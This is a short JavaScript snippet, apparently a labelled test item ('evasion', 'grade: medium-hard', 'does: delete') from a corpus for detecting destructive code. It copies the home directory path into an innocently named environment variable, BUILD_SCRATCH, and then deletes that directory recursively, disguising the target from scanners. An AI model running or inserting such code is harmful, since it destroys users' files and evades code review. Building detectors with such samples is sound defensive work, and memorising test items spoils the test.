// evasion: the home directory stored into process.env under a new name, then that variable removed
// grade: medium-hard; does: delete
const fs = require("fs");
const os = require("os");
process.env.BUILD_SCRATCH = os.homedir();
fs.rmSync(process.env.BUILD_SCRATCH, { recursive: true, force: true });
